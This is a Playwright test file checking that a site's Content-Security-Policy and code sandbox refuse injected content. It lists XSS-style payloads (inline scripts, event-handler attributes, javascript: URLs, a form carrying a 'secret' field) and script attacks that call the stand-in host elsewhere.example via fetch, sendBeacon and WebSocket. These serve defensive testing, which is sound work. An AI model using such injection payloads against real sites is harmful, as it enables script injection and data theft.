/**
 * What the browser refuses to a stranger's markup and to a stranger's script that have got into a
 * page, by the page's policy. SECURITY.md says who could bring them there.
 */
import { expect, test } from '../fixtures/test.ts';
import type { BrowserContext, Page } from '@playwright/test';
import { outcome, sandboxOn, write, button, names } from './notebook.ts';

const CHAPTER = '/synchronous-io/';
const ELSEWHERE = 'https://elsewhere.example';

/** Each would call `hostile` with its name, or reach a foreign address. */
const markup = `
<script>hostile('inline script')</script>
<script type="module">hostile('inline module')</script>
<script src="data:text/javascript,hostile('script of data')"></script>
<script src="${ELSEWHERE}/script.js"></script>
<img src="/nothing.png" alt="" onerror="hostile('handler')">
<svg><animate onbegin="hostile('handler of SVG')" attributeName="x" dur="1s"></svg>
<a id="hostile-link" href="javascript:hostile('address')">link</a>
<iframe src="${ELSEWHERE}/frame"></iframe>
<iframe srcdoc="<script>parent.hostile('script in a frame')</script>"></iframe>
<iframe src="javascript:parent.hostile('address of a frame')"></iframe>
<object data="${ELSEWHERE}/object"></object>
<img src="${ELSEWHERE}/image.png" alt="">
<link rel="stylesheet" href="${ELSEWHERE}/style.css">
<video src="${ELSEWHERE}/video.mp4"></video>
<form id="hostile-form" action="${ELSEWHERE}/form"><input name="secret" value="1"></form>
<base href="${ELSEWHERE}/">`;

const refusedMarkup = [
  'base-uri https://elsewhere.example/',
  'form-action https://elsewhere.example/form?secret=1',
  'frame-src https://elsewhere.example',
  'img-src https://elsewhere.example/image.png',
  'media-src https://elsewhere.example/video.mp4',
  'object-src https://elsewhere.example',
  'script-src-attr inline',
  'script-src-attr inline',
  'script-src-elem data',
  'script-src-elem https://elsewhere.example/script.js',
  'script-src-elem inline',
  'script-src-elem inline',
  'script-src-elem inline',
  'script-src-elem inline',
  'style-src-elem https://elsewhere.example/style.css',
];

interface Watched {
  /** What ran though it should not. */
  ran: string[];
  /** Directives and what they refused. */
  refused: string[];
}
declare global {
  var watched: Watched;
}

/** Opens the chapter with `markup` at the end of it. */
async function openWith(page: Page, change: (html: string) => string): Promise<void> {
  await page.addInitScript(() => {
    globalThis.watched = { ran: [], refused: [] };
    Object.assign(globalThis, { hostile: (name: string) => watched.ran.push(name) });
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      watched.refused.push(`${effectiveDirective} ${blockedURI}`);
    });
  });
  await page.route(`**${CHAPTER}`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: change(await response.text()) });
  });
  await page.goto(CHAPTER);
}

const withMarkup = (html: string) => html.replace('</main>', `${markup}</main>`);
const withoutPolicy = (html: string) =>
  html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');

/** What the browser has not refused by itself, and so asks the network for. */
async function foreignRequests(context: BrowserContext): Promise<string[]> {
  const addresses: string[] = [];
  await context.route(`${ELSEWHERE}/**`, (route) => {
    addresses.push(route.request().url());
    return route.abort();
  });
  return addresses;
}

test('hostile markup in a page neither runs nor loads anything', async ({ page, context }) => {
  const requests = await foreignRequests(context);
  await openWith(page, withMarkup);
  await page.evaluate(() => {
    document.querySelector<HTMLElement>('#hostile-link')!.click();
    document.querySelector<HTMLFormElement>('#hostile-form')!.submit();
  });
  const sorted = () => page.evaluate(() => watched.refused.sort());
  await expect.poll(sorted).toEqual(refusedMarkup);
  expect(await page.evaluate(() => watched.ran)).toEqual([]);
  expect(requests).toEqual([]);
});

test('without the policy the same markup does run and load', async ({ page, context }) => {
  const requests = await foreignRequests(context);
  await openWith(page, (html) => withoutPolicy(withMarkup(html)));
  await expect.poll(() => page.evaluate(() => watched.ran.length)).toBeGreaterThan(5);
  await expect.poll(() => requests.length).toBeGreaterThan(3);
});

test('a hostile script in a page makes no code of text, and reaches no other origin', async ({
  page,
  context,
}) => {
  const requests = await foreignRequests(context);
  await openWith(page, (html) => html);
  await page.evaluate((elsewhere) => {
    const { hostile } = globalThis as unknown as { hostile: (name: string) => void };
    const attacks = [
      () => eval('hostile("eval")'),
      () => new Function('hostile("Function")')(),
      () => setTimeout('hostile("setTimeout")'),
      () => document.body.setAttribute('onclick', 'hostile("attribute")'),
      () => document.body.append(Object.assign(document.createElement('script'), { text: '1' })),
      () => new Worker(URL.createObjectURL(new Blob(['1']))),
      () => void import(`${elsewhere}/module.js`).then(() => hostile('import')),
      () => void fetch(`${elsewhere}/fetch`),
      () => navigator.sendBeacon(`${elsewhere}/beacon`),
      () => new WebSocket('wss://elsewhere.example/socket'),
      () => new EventSource(`${elsewhere}/events`),
      () => (new Image().src = `${elsewhere}/image`),
      () =>
        document.fonts.add(new FontFace('x', `url(${elsewhere}/font)`)).forEach((f) => f.load()),
    ];
    // In tasks of the page's own: what the debugger itself evaluates is bound by no policy.
    for (const attack of attacks) setTimeout(attack);
  }, ELSEWHERE);
  const sorted = () => page.evaluate(() => watched.refused.sort());
  await expect
    .poll(sorted)
    .toEqual([
      'connect-src https://elsewhere.example/beacon',
      'connect-src https://elsewhere.example/events',
      'connect-src https://elsewhere.example/fetch',
      'connect-src wss://elsewhere.example/socket',
      'font-src https://elsewhere.example/font',
      'img-src https://elsewhere.example/image',
      'script-src eval',
      'script-src eval',
      'script-src eval',
      'script-src-attr inline',
      'script-src-elem https://elsewhere.example/module.js',
      'script-src-elem inline',
      'worker-src blob',
    ]);
  expect(await page.evaluate(() => watched.ran)).toEqual([]);
  expect(requests).toEqual([]);
});

/** Prints the names of what worked. */
const program = (site: string) => `
const worked = [];
const attempt = async (name, run) => {
  try { if ((await run()) !== undefined) worked.push(name); } catch {}
};
await attempt('control', () => true);
await attempt('fetch of the site', () => fetch('${site}'));
await attempt('fetch elsewhere', () => fetch('${ELSEWHERE}/program'));
await attempt('import', () => import('${site}favicon.svg'));
await attempt('import by Function', () => Function('return import("${ELSEWHERE}/module.js")')());
await attempt('socket', () => new Promise((resolve, reject) => {
  const socket = new WebSocket('wss://elsewhere.example/program');
  socket.onopen = resolve;
  socket.onerror = () => reject(new Error('refused'));
}));
for (const name of ['indexedDB', 'caches', 'localStorage', 'document', 'parent', 'importScripts', 'XMLHttpRequest', 'RTCPeerConnection']) {
  await attempt(name, () => Function('return typeof ' + name + " === 'undefined' ? undefined : true")());
}
await attempt('storage', () => navigator.storage?.getDirectory());
console.log('worked: ' + JSON.stringify(worked));
`;

test('a hostile program reaches neither the network nor the site’s storage nor its page', async ({
  page,
  context,
  baseURL,
}) => {
  await page.goto(`${CHAPTER}?runtime=embedded`);
  const sandbox = sandboxOn(page, 'in-step');
  await write(page, sandbox, program(`${baseURL}/`));
  const requests = await foreignRequests(context);
  await button(sandbox, names('/').run).click();
  const { exitCode, said } = await outcome(sandbox);
  expect(exitCode, said).toBe(0);
  await expect(sandbox.getByRole('log')).toContainText('worked: ["control"]');
  expect(requests).toEqual([]);
});
